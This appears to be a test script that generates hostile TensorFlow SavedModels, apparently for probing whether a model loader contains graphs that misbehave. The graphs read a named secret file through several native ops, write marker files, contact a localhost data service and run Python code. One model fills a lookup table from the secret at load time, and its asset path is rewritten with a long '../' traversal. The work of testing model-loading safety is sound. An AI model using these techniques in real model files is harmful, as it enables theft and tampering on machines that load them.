"""Writes SavedModels whose graphs do what a graph should not. Runs in the environment `tensorflow`: FOLDER SECRET MARKER PORT."""

import sys
from pathlib import Path

import tensorflow as tf
from tensorflow.core.protobuf.saved_model_pb2 import SavedModel

FLOAT = tf.float32
SECRET, MARKER, PORT = sys.argv[2:5]
raw = tf.raw_ops


def read_secret(x):
    return {"y": tf.io.read_file(SECRET)}


def list_folder(x):
    return {"y": raw.MatchingFiles(pattern=str(Path(SECRET).parent / "*"))}


def read_lines(x):
    return {"y": tf.data.experimental.get_single_element(tf.data.TextLineDataset(SECRET).take(1))}


def read_records(x):
    """A data set of fixed records, another reader in native code."""
    records = tf.data.FixedLengthRecordDataset(SECRET, 5).take(1)
    return {"y": tf.data.experimental.get_single_element(records)}


def write_file(x):
    with tf.control_dependencies([tf.io.write_file(MARKER, "marker")]):
        return {"y": tf.identity(x)}


def print_to_file(x):
    with tf.control_dependencies([raw.PrintV2(input="marker", output_stream=f"file://{MARKER}")]):
        return {"y": tf.identity(x)}


def save_checkpoint(x):
    saved = raw.SaveV2(prefix=MARKER, tensor_names=["x"], shape_and_slices=[""], tensors=[tf.identity(x)])
    with tf.control_dependencies([saved]):
        return {"y": tf.identity(x)}


def cache_to_file(x):
    numbers = tf.data.Dataset.range(3).cache(MARKER)
    return {"y": numbers.reduce(tf.constant(0, tf.int64), lambda a, b: a + b)}


def dump_for_debugger(x):
    dumped = raw.DebugIdentityV3(
        input=x, device_name="/cpu:0", tensor_name="x:0", io_of_node="", debug_urls=[f"file://{MARKER}"]
    )
    return {"y": tf.identity(dumped)}


def summaries(x):
    writer = raw.SummaryWriter(shared_name="w", container="")
    made = raw.CreateSummaryFileWriter(
        writer=writer, logdir=MARKER, max_queue=1, flush_millis=1, filename_suffix="x"
    )
    with tf.control_dependencies([made]), tf.control_dependencies([raw.FlushSummaryWriter(writer=writer)]):
        return {"y": tf.identity(x)}


def data_service(x):
    address = f"127.0.0.1:{PORT}"
    number = raw.RegisterDatasetV2(
        dataset=tf.data.Dataset.range(3)._variant_tensor, address=address, protocol="grpc",
        external_state_policy=1, element_spec="", requested_dataset_id="", metadata="",
    )  # fmt: skip
    return {"y": number}


def python_function(x):
    def act(value):
        Path(MARKER).write_text("marker")
        return value

    return {"y": tf.py_function(act, [x], FLOAT)}


class Hostile(tf.Module):
    def __init__(self, act):
        self.serve = tf.function(act, input_signature=[tf.TensorSpec([None], FLOAT, name="x")])


class ReadsWhenLoaded(tf.Module):
    """Its table is filled from a file when the model is loaded, before anything is asked of it."""

    def __init__(self):
        self.table = tf.lookup.StaticHashTable(
            tf.lookup.TextFileInitializer(
                SECRET,
                tf.string,
                tf.lookup.TextFileIndex.WHOLE_LINE,
                tf.int64,
                tf.lookup.TextFileIndex.LINE_NUMBER,
            ),
            -1,
        )

    @tf.function(input_signature=[tf.TensorSpec([None], FLOAT, name="x")])
    def serve(self, x):
        return {
            "y": raw.LookupTableExportV2(
                table_handle=self.table.resource_handle, Tkeys=tf.string, Tvalues=tf.int64
            )[0]
        }


ACTS = [
    read_secret, list_folder, read_lines, read_records, write_file, print_to_file, save_checkpoint, cache_to_file,
    dump_for_debugger, summaries, data_service, python_function,
]  # fmt: skip


def main(folder: Path) -> None:
    for act in ACTS:
        module = Hostile(act)
        tf.saved_model.save(module, str(folder / act.__name__), signatures=module.serve)
    module = ReadsWhenLoaded()
    tf.saved_model.save(module, str(folder / "reads_when_loaded"), signatures=module.serve)
    climb_out(folder / "reads_when_loaded" / "saved_model.pb")


def climb_out(path: Path) -> None:
    """Name the secret itself as the file of the table, in place of the copy that was saved with the model."""
    model = SavedModel.FromString(path.read_bytes())
    for graph in model.meta_graphs:
        for asset in graph.asset_file_def:
            asset.filename = "../" * 30 + SECRET.lstrip("/")
    path.write_bytes(model.SerializeToString())


if __name__ == "__main__":
    main(Path(sys.argv[1]))
